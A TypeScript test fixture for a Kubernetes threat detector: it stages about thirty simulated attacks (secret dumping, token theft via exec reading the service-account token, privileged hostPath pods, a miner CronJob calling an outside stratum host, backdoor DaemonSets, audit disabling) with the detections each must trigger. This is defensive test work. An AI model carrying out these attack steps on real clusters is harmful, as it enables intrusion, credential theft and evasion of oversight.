import { day, hour, minute, second, type ApiServer, type Client } from './api-server.ts';
import type { Cluster } from './cluster.ts';
import { bind, make, nodeObject, podSpec, rule, workload } from './objects.ts';
import { kubelet, person } from './people.ts';

/** An attack: what an intruder does, who it is, and what must be found. */
export interface Attack {
  readonly name: string;
  /** At least these detections. */
  readonly finds: readonly string[];
  /** The user name that a finding must name. */
  readonly actor: string;
  readonly play: (cluster: Cluster) => void;
}

const dan = person('dan');
/** The credential of a developer on the machine of an intruder. */
const stolen = person('dan', '203.0.113.66', 'kubectl/v1.29.0 (linux/amd64)');
const admin = person('admin-a', '203.0.113.66', 'kubectl/v1.29.0 (linux/amd64)');
const outside: Client = { user: 'system:anonymous', groups: ['system:unauthenticated'], from: '203.0.113.66', agent: 'curl/8.0' };

/** The token of a pod, used from somewhere else. */
const token = (cluster: Cluster, namespace: string, account: string, from: string, agent = 'kubectl'): Client => ({
  ...cluster.account(namespace, account, agent),
  from,
});
const accountName = (namespace: string, name: string): string => `system:serviceaccount:${namespace}:${name}`;

const somePod = (api: ApiServer, namespace: string): string =>
  [...api.objects.values()].find(({ kind, metadata }) => kind === 'Pod' && metadata.namespace === namespace)?.metadata.name ?? 'web';
const root = { hostPID: true, hostNetwork: true, volumes: [{ name: 'h', hostPath: { path: '/' } }] };

/** What published attack tools and reports of incidents do. */
export const attacks: readonly Attack[] = [
  {
    name: 'dump all Secrets with the credential of an operator',
    finds: ['token-from-elsewhere'],
    actor: accountName('external-secrets', 'external-secrets'),
    play: (cluster) =>
      cluster.api.call(token(cluster, 'external-secrets', 'external-secrets', '203.0.113.66'), { verb: 'list', of: 'secrets' }),
  },
  {
    name: 'dump all Secrets as a developer',
    finds: ['cluster-wide-secret-list'],
    actor: dan.user,
    play: ({ api }) => api.call(dan, { verb: 'list', of: 'secrets' }),
  },
  {
    name: 'read Secrets one after the other from a pod that was taken over',
    finds: ['secret-spread', 'secret-read'],
    actor: accountName('ingress-nginx', 'ingress-nginx'),
    play: (cluster) => {
      const client = cluster.account('ingress-nginx', 'ingress-nginx', 'curl');
      for (const namespace of ['shop', 'bank', 'crm'])
        for (const name of ['web', 'db', 'api', 'tls', 'admin'])
          cluster.api.call(client, { verb: 'get', of: 'secrets', in: namespace, name });
    },
  },
  {
    name: 'read Secrets slowly, one an hour, in namespaces that were not read before',
    finds: ['secret-read'],
    actor: accountName('cert-manager', 'cert-manager'),
    play: (cluster) => {
      for (const namespace of ['shop', 'bank', 'crm', 'ml', 'ci', 'monitoring']) {
        cluster.api.call(cluster.account('cert-manager', 'cert-manager', 'cert-manager-controller'), {
          verb: 'get',
          of: 'secrets',
          in: namespace,
          name: 'web-credentials',
        });
        cluster.api.until(cluster.api.now + hour);
      }
    },
  },
  {
    name: 'steal the token of a pod through a session',
    finds: ['exec-into-pod', 'suspicious-exec'],
    actor: dan.user,
    play: ({ api }) => {
      const name = somePod(api, 'external-secrets');
      api.call(dan, {
        verb: 'get',
        of: 'pods/exec',
        in: 'external-secrets',
        name,
        uri: '/x?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken',
      });
    },
  },
  {
    name: 'stay by an own administrator role and account',
    finds: ['new-admin-binding', 'role-gains-power', 'token-request'],
    actor: admin.user,
    play: ({ api }) => {
      api.write(admin, make('ClusterRole', '', 'maintenance', { rules: [rule('*', '*', '*')] }), 'kubectl-create');
      api.write(admin, make('ServiceAccount', 'kube-system', 'maintenance'), 'kubectl-create');
      api.write(
        admin,
        bind('ClusterRoleBinding', '', 'maintenance', 'ClusterRole/maintenance', [
          { kind: 'ServiceAccount', namespace: 'kube-system', name: 'maintenance' },
        ]),
        'kubectl-create',
      );
      api.call(admin, {
        verb: 'create',
        of: 'serviceaccounts/token',
        in: 'kube-system',
        name: 'maintenance',
        token: { expirationSeconds: 31_536_000, audiences: [] },
      });
    },
  },
  {
    name: 'stay by a client certificate',
    finds: ['certificate-request'],
    actor: admin.user,
    play: ({ api }) => {
      const request = make('CertificateSigningRequest', '', 'laptop', {
        spec: { signerName: 'kubernetes.io/kube-apiserver-client', username: admin.user, request: '' },
      });
      api.write(admin, request, 'kubectl-create');
      api.write(admin, { ...request, status: { conditions: [{ type: 'Approved' }] } } as typeof request, 'kubectl', 'approval');
    },
  },
  {
    name: 'take over a node by a pod',
    finds: ['host-takeover-pod', 'new-host-access'],
    actor: dan.user,
    play: ({ api }) =>
      api.write(
        dan,
        make('Pod', 'default', 'debug', {
          spec: podSpec('docker.io/library/alpine', 'default', root, { securityContext: { privileged: true } }),
        }),
        'kubectl-run',
      ),
  },
  {
    name: 'run commands through a kubelet',
    finds: ['node-proxy', 'token-from-elsewhere'],
    actor: accountName('monitoring', 'metrics-agent'),
    play: (cluster) =>
      cluster.api.call(token(cluster, 'monitoring', 'metrics-agent', '203.0.113.66', 'curl'), {
        verb: 'create',
        of: 'nodes/proxy',
        name: 'ip-10-0-0-5',
        uri: '/api/v1/nodes/ip-10-0-0-5/proxy/run/shop/web/main?cmd=id',
      }),
  },
  {
    name: 'use the credential of a kubelet from a pod',
    finds: ['node-identity-from-elsewhere'],
    actor: 'system:node:ip-10-0-0-6',
    play: ({ api }) =>
      api.call({ ...kubelet('ip-10-0-0-6', 6), from: '10.244.7.20' }, { verb: 'get', of: 'secrets', in: 'shop', name: 'web-credentials' }),
  },
  {
    name: 'backdoor DaemonSet in kube-system with a name like kube-proxy',
    finds: ['system-namespace-newcomer', 'daemonset-by-new-actor', 'new-host-access'],
    actor: dan.user,
    play: ({ api }) =>
      api.write(
        dan,
        workload(
          'DaemonSet',
          'kube-system',
          'kube-proxys',
          podSpec('docker.io/library/alpine', 'default', root, { securityContext: { privileged: true } }),
        ),
        'kubectl-create',
      ),
  },
  {
    name: 'a CronJob that comes back, with a miner',
    finds: ['miner-or-tool', 'job-by-new-actor'],
    actor: dan.user,
    play: ({ api }) =>
      api.write(
        dan,
        workload(
          'CronJob',
          'ml',
          'cache-warmer',
          podSpec(
            'docker.io/library/alpine',
            'default',
            {},
            { command: ['sh', '-c', './x -o stratum+tcp://203.0.113.9:3333 --donate-level 1'] },
          ),
        ),
        'kubectl-create',
      ),
  },
  {
    name: 'a workload that is changed under the name of the GitOps controller',
    finds: ['changed-by-new-actor'],
    actor: stolen.user,
    play: ({ api }) => {
      const spec = podSpec('registry.example/shop/web:1', 'default', {}, { command: ['/bin/sh', '-c', '/entrypoint & /tmp/x'] });
      api.write(stolen, workload('Deployment', 'shop', 'web', spec), 'argocd-controller');
    },
  },
  {
    name: 'an account that may read Secrets, used by a new pod',
    finds: ['account-switched'],
    actor: dan.user,
    play: ({ api }) =>
      api.write(
        dan,
        make('Pod', 'external-secrets', 'helper', { spec: podSpec('docker.io/library/alpine', 'external-secrets') }),
        'kubectl-run',
      ),
  },
  {
    name: 'everybody is bound to cluster-admin',
    finds: ['binding-to-everybody'],
    actor: admin.user,
    play: ({ api }) =>
      api.write(
        admin,
        bind('ClusterRoleBinding', '', 'anon', 'ClusterRole/cluster-admin', [{ kind: 'User', name: 'system:anonymous' }]),
        'kubectl-create',
      ),
  },
  {
    name: 'anonymous reads',
    finds: ['anonymous-access'],
    actor: 'system:anonymous',
    play: ({ api }) => api.call(outside, { verb: 'list', of: 'pods' }),
  },
  {
    name: 'traffic is taken over by external IPs and DNS',
    finds: ['new-exposure', 'cluster-dns-or-auth-changed'],
    actor: admin.user,
    play: ({ api }) => {
      api.write(
        admin,
        make('Service', 'default', 'proxy', { spec: { type: 'ClusterIP', externalIPs: ['10.1.2.3'], ports: [{ port: 443 }] } }),
        'kubectl-create',
      );
      api.write(
        admin,
        make('ConfigMap', 'kube-system', 'coredns', { data: { Corefile: '.:53 { rewrite name vault.bank evil.default }' } }),
        'kubectl-edit',
      );
    },
  },
  {
    name: 'a mutating webhook outside of the cluster',
    finds: ['webhook-configuration'],
    actor: admin.user,
    play: ({ api }) =>
      api.write(
        admin,
        make('MutatingWebhookConfiguration', '', 'sidecar', {
          webhooks: [{ name: 'a.b.c', clientConfig: { url: 'https://203.0.113.9/m' }, rules: [{ apiGroups: [''], resources: ['pods'] }] }],
        }),
        'kubectl-create',
      ),
  },
  {
    name: 'protections are loosened before a privileged pod',
    finds: ['guardrail-loosened', 'host-takeover-pod'],
    actor: admin.user,
    play: ({ api }) => {
      api.write(
        admin,
        make('Namespace', '', 'ml', {}, { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } }),
        'kubectl-label',
      );
      api.remove(admin, 'NetworkPolicy', 'ml', 'deny');
      api.write(
        admin,
        make('Pod', 'ml', 'tune', {
          spec: podSpec('docker.io/library/alpine', 'default', root, { securityContext: { privileged: true } }),
        }),
        'kubectl-run',
      );
    },
  },
  {
    name: 'look around with a stolen token',
    finds: ['permission-probing', 'denied-requests', 'token-from-elsewhere'],
    actor: accountName('ingress-nginx', 'ingress-nginx'),
    play: (cluster) => {
      const client = token(cluster, 'ingress-nginx', 'ingress-nginx', '203.0.113.66');
      cluster.api.call(client, { verb: 'create', of: 'selfsubjectrulesreviews.authorization.k8s.io' });
      for (const of of 'pods secrets nodes roles clusterroles rolebindings deployments daemonsets jobs cronjobs configmaps serviceaccounts ingresses'.split(
        ' ',
      ))
        cluster.api.call(client, { verb: 'list', of, code: 403 });
    },
  },
  {
    name: 'list everything as a developer',
    finds: ['enumeration'],
    actor: dan.user,
    play: ({ api }) => {
      for (const of of 'pods services configmaps deployments.apps jobs.batch nodes namespaces serviceaccounts'.split(' '))
        api.call(dan, { verb: 'list', of });
      api.until(api.now + minute);
    },
  },
  {
    name: 'act as system:masters',
    finds: ['impersonation'],
    actor: admin.user,
    play: ({ api }) => api.call(admin, { verb: 'list', of: 'pods', as: { user: 'x', groups: ['system:masters'] } }),
  },
  {
    name: 'destroy the applications, then the traces',
    finds: ['mass-deletion', 'events-deleted'],
    actor: admin.user,
    play: ({ api }) => {
      for (const { kind = '', metadata } of [...api.objects.values()])
        if (kind === 'Deployment') api.remove(admin, kind, metadata.namespace, metadata.name);
      api.call(admin, { verb: 'deletecollection', of: 'events', in: 'shop' });
    },
  },
  {
    name: 'a debug container in a pod of the bank',
    finds: ['ephemeral-container-added'],
    actor: dan.user,
    play: ({ api }) => {
      const pod = [...api.objects.values()].find(({ kind, metadata }) => kind === 'Pod' && metadata.namespace === 'bank');
      if (pod)
        api.write(
          dan,
          { ...pod, spec: { ...(pod as { spec?: object }).spec, ephemeralContainers: [{ name: 'd', image: 'alpine' }] } } as typeof pod,
          'kubectl-debug',
          'ephemeralcontainers',
        );
    },
  },
  {
    name: 'a role of a team gains escalate',
    finds: ['role-gains-power'],
    actor: admin.user,
    play: ({ api }) =>
      api.write(
        admin,
        make('ClusterRole', '', 'kube-state-metrics', {
          rules: [
            rule('list watch', 'secrets configmaps pods nodes services deployments'),
            rule('escalate bind', 'clusterroles', 'rbac.authorization.k8s.io'),
          ],
        }),
        'kubectl-edit',
      ),
  },
  {
    name: 'a static pod on a node',
    finds: ['static-pod'],
    actor: 'system:node:ip-10-0-0-7',
    play: ({ api }) =>
      api.write(
        kubelet('ip-10-0-0-7', 7),
        make(
          'Pod',
          'kube-system',
          'healthd-ip-10-0-0-7',
          { spec: podSpec('docker.io/library/alpine', 'default', { nodeName: 'ip-10-0-0-7' }) },
          { annotations: { 'kubernetes.io/config.mirror': 'x' } },
        ),
        'kubelet',
      ),
  },
  {
    name: 'a machine of the intruder joins',
    finds: ['unknown-node'],
    actor: 'system:node:attacker',
    play: ({ api }) =>
      api.write(
        { ...kubelet('attacker', 99), from: '203.0.113.66' },
        { ...nodeObject('attacker', 99, 'none'), metadata: { name: 'attacker', labels: { 'kubernetes.io/os': 'linux' } } },
        'kubelet',
      ),
  },
  {
    name: 'poison first: read Secrets every day until it looks usual',
    finds: ['secret-read'],
    actor: dan.user,
    play: ({ api }) => {
      for (let number = 0; number < 6; number += 1) {
        api.call(dan, { verb: 'get', of: 'secrets', in: 'bank', name: `ledger-${'abcdef'[number] ?? ''}` });
        api.until(api.now + day);
      }
    },
  },
  {
    name: 'switch audit events off, then act',
    finds: ['audit-gap', 'daemonset-by-new-actor'],
    actor: '',
    play: ({ api }) => {
      api.auditing = false;
      api.write(dan, workload('DaemonSet', 'default', 'helper', podSpec('docker.io/library/alpine')), 'kubectl-create');
      api.auditing = true;
      for (let index = 0; index < 40; index += 1) {
        api.until(api.now + 10 * second);
        api.call(dan, { verb: 'list', of: 'pods', in: 'shop' });
      }
    },
  },
];
